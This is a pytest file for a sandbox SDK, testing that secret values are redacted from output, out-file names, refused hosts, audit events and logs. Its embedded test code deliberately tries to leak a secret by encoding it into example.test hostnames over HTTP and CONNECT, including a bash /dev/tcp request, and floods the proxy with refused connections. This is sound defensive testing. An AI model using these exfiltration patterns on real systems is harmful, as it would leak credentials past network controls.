"""No secret value leaves the box: not in output, out-file names, refused hosts, audit events or the log.

Secrets are given only by name (``sandbox.secrets``), the app's environment never reaches the code, values are
redacted even when split across writes, and the audit event holds the code's hash, never the code. The code
in a real box also encodes its secret into the hosts it tries and the files it leaves, through the real proxy.
"""

from __future__ import annotations

import ast
import json
import logging
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from loopback import NETWORK_CONFIG, RESOLVE
from mainsdk import Sandbox, SandboxError, secret
from mainsdk.audit import code_sha256
from mainsdk.config import load_config_text
from mainsdk.errors import HOST_NOT_ALLOWED, SECRET_NOT_ALLOWED
from mainsdk.limits import MAX_HOST_LENGTH, MAX_HOSTS_REFUSED, MAX_REFUSED_LOG_LINES
from requires import NAMESPACES, NET_NAMESPACE

from mainsdk_local import local_sandbox_driver


def test_the_code_cannot_see_the_apps_environment(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("APP_ONLY_VALUE", "app-secret-env")
    out = sandbox.run("import os; print(sorted(os.environ))", env={"GIVEN": "1"}).stdout
    names = set(ast.literal_eval(out))  # the list printed by the code
    assert "APP_ONLY_VALUE" not in names and "GIVEN" in names
    # HOME and TMPDIR are the box's own folders; Python may coerce the C locale by setting LC_CTYPE.
    assert names <= {"GIVEN", "HOME", "TMPDIR", "LC_CTYPE"}


def test_secret_values_are_redacted_even_when_split(make_sandbox: Callable[..., Any]) -> None:
    built = make_sandbox(secret=lambda name: "tok-9f8e7d6c5b4a" if name == "TEST_API_KEY" else None)
    code = "import os, sys\nk = os.environ['K']\nfor c in k:\n    sys.stdout.write(c); sys.stdout.flush()\nprint()"
    result = built.sandbox.run(code, env={"K": secret("TEST_API_KEY")})
    assert result.stdout == "[redacted:secret]\n"
    assert "tok-9f8e7d6c5b4a" not in repr(built.events)


def test_a_secret_not_listed_is_refused_and_nothing_runs(make_sandbox: Callable[..., Any], tmp_path: Path) -> None:
    built = make_sandbox()
    marker = tmp_path / "ran"
    with pytest.raises(SandboxError) as caught:
        built.sandbox.run(f"open({str(marker)!r}, 'w')", env={"K": secret("NOT_LISTED")})
    assert caught.value.code == SECRET_NOT_ALLOWED and not marker.exists()
    assert [(e.kind, e.error) for e in built.events] == [("refused", SECRET_NOT_ALLOWED)]


def test_every_run_is_audited_with_the_hash_never_the_code(make_sandbox: Callable[..., Any]) -> None:
    built = make_sandbox()
    code = "print('visible-output-text')  # code-comment-text"
    built.sandbox.run(code, feature="notebook", env={"MODE": "x"})
    [event] = built.events
    assert event.code_sha256 == code_sha256(code)
    assert (event.kind, event.feature, event.driver, event.isolation, event.exit_code) == (
        "run",
        "notebook",
        "local",
        "namespace",
        0,
    )
    assert event.env_names == ("MODE",) and event.stop is None and event.duration is not None
    text = repr(event.to_dict())
    assert "visible-output-text" not in text and "code-comment-text" not in text


SECRET_VALUE = "Tok-Weather-5e3c"


@NAMESPACES
def test_a_secret_cut_at_the_end_of_a_long_skipped_name_does_not_leave_most_of_it(
    make_sandbox: Callable[..., Any], local_config: str
) -> None:
    # Must hold: a secret value never leaves in an out-file name (README, "What the proxy lets through":
    # out-file names are redacted). The driver cuts a skipped entry's name (a link, a FIFO) to 200
    # characters and adds "..."; a name padded so the cut falls one character before the value's end
    # carried 15 of its 16 characters into files_dropped, where the whole-value pattern no longer matched.
    built = make_sandbox(local_config, secret={"TEST_API_KEY": SECRET_VALUE}.get)
    code = (
        "import os\nkey = os.environ['KEY']\n"
        "for pad in range(180, 200):\n"
        "    os.symlink('x', '/out/' + 'a' * pad + key)\n"
        "    os.mkfifo('/out/' + 'b' * pad + key.upper())\n"
    )
    result = built.sandbox.run(code, env={"KEY": secret("TEST_API_KEY")})
    assert result.exit_code == 0, result.stderr
    assert len(result.files_dropped) == 40, result.files_dropped
    said = json.dumps([result.to_dict(), [event.to_dict() for event in built.events]], default=str).lower()
    leaked = [size for size in range(4, len(SECRET_VALUE) + 1) if SECRET_VALUE[:size].lower() in said]
    assert not leaked, f"the first {max(leaked)} characters of the secret left in a cut name"


SECRET_VALUE = "Tok-Weather-5e3c"  # mixed case: the proxy lowercases host names, and DNS ignores case


def make_secret_sandbox(make_sandbox: Any) -> Any:
    """The network sandbox, with TEST_API_KEY's value coming from the test."""
    config = load_config_text(NETWORK_CONFIG)
    driver = local_sandbox_driver(permissions=config.permissions, resolve=RESOLVE)
    return make_sandbox(NETWORK_CONFIG, driver=driver, secret={"TEST_API_KEY": SECRET_VALUE}.get)


def _everything_said(result: Any, events: list[Any], records: list[logging.LogRecord]) -> str:
    """The result, every audit event and every log line, as one text."""
    logs = [r.getMessage() + (r.exc_text or "") for r in records]
    return json.dumps([result.to_dict(), [e.to_dict() for e in events], logs], default=str)


# The code tries its secret as a host label (as given and upper-cased), through plain HTTP and CONNECT,
# and leaves a file named after it.
LEAK = r"""
import os, socket, urllib.error, urllib.request
key = os.environ["KEY"]
for host in (f"{key}.x.example.test", f"{key.upper()}.y.example.test", f"a-{key}-b.z.example.test"):
    try:
        urllib.request.urlopen(f"http://{host}:1/")
    except urllib.error.HTTPError as exc:
        print(exc.code)
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(f"CONNECT {key}.tunnel.example.test:443 HTTP/1.1\r\nHost: {key}.tunnel.example.test:443\r\n\r\n".encode())
print(s.recv(12).decode())
os.makedirs("../out/dir", exist_ok=True)
open(f"../out/{key}.txt", "w").write("x")
open(f"../out/dir/{key.upper()}", "w").write("y")
"""


# 5,000 distinct hosts, each on its own connection to the proxy, each refused.
FLOOD = r"""
import socket
for i in range(5000):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(f"CONNECT h{i}.flood.example.test:443 HTTP/1.1\r\nHost: h{i}.flood.example.test\r\n\r\n".encode())
    assert s.recv(12) == b"HTTP/1.1 403"
    s.close()
print("done")
"""


@NET_NAMESPACE
def test_a_secret_in_a_host_name_or_a_file_name_is_redacted_everywhere(
    make_sandbox: Any, caplog: pytest.LogCaptureFixture
) -> None:
    built = make_secret_sandbox(make_sandbox)
    with caplog.at_level(logging.DEBUG):
        result = built.sandbox.run(LEAK, network=["api.example.test"], env={"KEY": secret("TEST_API_KEY")})
    assert result.stdout == "403\n403\n403\nHTTP/1.1 403\n", result.stderr
    everything = _everything_said(result, built.events, caplog.records).lower()
    assert SECRET_VALUE.lower() not in everything
    assert result.hosts_refused == (
        "[redacted:secret].x.example.test",
        "[redacted:secret].y.example.test",
        "a-[redacted:secret]-b.z.example.test",
        "[redacted:secret].tunnel.example.test",
    )
    assert sorted(f.name for f in result.files) == ["[redacted:secret].txt", "dir/[redacted:secret]"]
    assert built.events[-1].hosts_refused == result.hosts_refused
    warnings = [r.getMessage() for r in caplog.records if r.name == "mainsdk" and r.levelno == logging.WARNING]
    assert len(warnings) == 4 and all(HOST_NOT_ALLOWED in w and result.id in w for w in warnings)


@NET_NAMESPACE
def test_a_secret_in_a_session_commands_host_is_redacted(make_sandbox: Any, caplog: pytest.LogCaptureFixture) -> None:
    built = make_secret_sandbox(make_sandbox)
    request = "printf 'CONNECT %s.s.example.test:1 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' \"$KEY\" >&3"
    with (
        caplog.at_level(logging.DEBUG),
        built.sandbox.create(network=["api.example.test"], env={"KEY": secret("TEST_API_KEY")}) as session,
    ):
        refused = session.run("bash", ["-c", f"exec 3<>/dev/tcp/127.0.0.1/3128; {request}; head -c 12 <&3"])
    assert refused.stdout == "HTTP/1.1 403", refused.stderr
    assert refused.hosts_refused == ("[redacted:secret].s.example.test",)
    logs = [r.getMessage() for r in caplog.records]
    texts = json.dumps([repr(refused), [e.to_dict() for e in built.events], logs], default=str).lower()
    assert SECRET_VALUE.lower() not in texts


@NET_NAMESPACE
def test_thousands_of_refused_hosts_are_kept_counted_and_logged_within_bounds(
    make_sandbox: Any, caplog: pytest.LogCaptureFixture
) -> None:
    built = make_secret_sandbox(make_sandbox)
    with caplog.at_level(logging.WARNING, logger="mainsdk"):
        result = built.sandbox.run(FLOOD, network=["api.example.test"], limits={"timeout": "20s"})
    assert (result.stdout, result.stop) == ("done\n", None), result.stderr[-2000:]
    assert len(result.hosts_refused) == MAX_HOSTS_REFUSED
    assert result.hosts_refused[:2] == ("h0.flood.example.test", "h1.flood.example.test")
    assert result.hosts_refused_dropped == 5000 - MAX_HOSTS_REFUSED
    [event] = built.events
    assert (event.hosts_refused, event.hosts_refused_dropped) == (result.hosts_refused, 5000 - MAX_HOSTS_REFUSED)
    assert len(json.dumps(event.to_dict())) < 4096  # bounded: 50 short names and a count
    warnings = [r.getMessage() for r in caplog.records if r.name == "mainsdk" and r.levelno == logging.WARNING]
    assert len(warnings) == MAX_REFUSED_LOG_LINES + 1
    assert f"and {5000 - MAX_REFUSED_LOG_LINES} more hosts refused" in warnings[-1] and result.id in warnings[-1]


@NET_NAMESPACE
def test_a_long_reported_host_is_cut_after_redaction() -> None:
    # A driver (not the local proxy, which refuses names over 253 with a 400) may report any string.
    from mainsdk.limits import OutputCollector

    collector = OutputCollector(1000, [SECRET_VALUE.encode()], label="run_x")
    collector.host_refused("a" * 240 + SECRET_VALUE.upper() + ".example.test")
    [host] = collector.hosts_refused
    assert len(host) == MAX_HOST_LENGTH and host.startswith("a" * 240 + "[redacted:sec")
